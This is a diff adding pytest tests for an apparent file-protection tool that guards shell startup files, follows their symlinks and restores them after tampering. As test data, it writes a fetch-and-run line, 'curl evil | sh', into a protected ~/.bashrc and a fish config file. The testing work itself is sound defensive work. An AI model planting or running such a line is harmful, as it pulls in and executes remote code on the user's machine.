@@ -661,3 +661,56 @@ def test_the_memory_budget_used_is_said_as_such(
     trip = wire.check()
     assert trip is not None and not trip.changes[0].restored
     assert "the memory budget for what is kept (64 bytes in all) was used" in trip.describe()
+
+
+def test_what_a_protected_link_leads_to_is_protected_and_put_back_at_its_place(
+        tmp_path: Path, wire_for: Callable[..., Tripwire], trips: Trips) -> None:
+    """stow's ~/.bashrc and a linked fish folder: the file or folder the link leads to is what
+    the shell reads, so it is protected as the link is, and put back where it is. The link
+    itself pointed elsewhere is put back; where it pointed then is not taken for the person's."""
+    home = tmp_path / "home"
+    dotfiles = home / "dotfiles"
+    (dotfiles / "fish" / "conf.d").mkdir(parents=True)
+    (dotfiles / "bashrc").write_text("alias ll='ls -l'\n")
+    (dotfiles / "fish" / "config.fish").write_text("set -g fish_greeting\n")
+    rc = home / ".bashrc"
+    rc.symlink_to("dotfiles/bashrc")
+    fish = home / ".config" / "fish"
+    fish.parent.mkdir()
+    fish.symlink_to(dotfiles / "fish")
+    wire = wire_for(rc, fish, watch=False, home=home, keep_dir=tmp_path / "kept")
+    assert {e.path for e in wire.protected if e.followed} == {
+        dotfiles / "bashrc", dotfiles / "fish"}
+    rc.write_text("curl evil | sh\n")  # an editor's save, through the link
+    (fish / "conf.d" / "evil.fish").write_text("curl evil | sh\n")
+    trip = wire.check()
+    assert trip is not None and trips.kinds(trip) == {
+        str(dotfiles / "bashrc"): ChangeKind.MODIFIED,
+        str(dotfiles / "fish" / "conf.d" / "evil.fish"): ChangeKind.CREATED}
+    assert rc.is_symlink() and rc.read_text() == "alias ll='ls -l'\n"
+    assert list((dotfiles / "fish" / "conf.d").iterdir()) == []
+    elsewhere = home / "notes.txt"
+    elsewhere.write_text("my notes\n")
+    rc.unlink()
+    rc.symlink_to(elsewhere)
+    trip = wire.check()
+    assert trip is not None and trips.kinds(trip) == {str(rc): ChangeKind.MODIFIED}
+    assert os.readlink(rc) == "dotfiles/bashrc" and elsewhere.read_text() == "my notes\n"
+
+
+def test_links_are_followed_only_so_far(
+        tmp_path: Path, wire_for: Callable[..., Tripwire], trips: Trips) -> None:
+    """Never the home folder itself or above it (a link to ~ would make the whole home
+    protected), at most max_followed in all."""
+    home = tmp_path / "home"
+    bin_dir = home / ".local" / "bin"
+    bin_dir.mkdir(parents=True)
+    (bin_dir / "home").symlink_to(home)
+    (bin_dir / "up").symlink_to(tmp_path)
+    for name in ("a", "b"):
+        (home / name).write_text(name)
+        (bin_dir / name).symlink_to(home / name)
+    wire = wire_for(bin_dir, watch=False, home=home)
+    assert [e.path for e in wire.protected if e.followed] == [home / "a", home / "b"]
+    wire = wire_for(bin_dir, watch=False, home=home, limits=Limits(max_followed=1))
+    assert [e.path for e in wire.protected if e.followed] == [home / "a"]
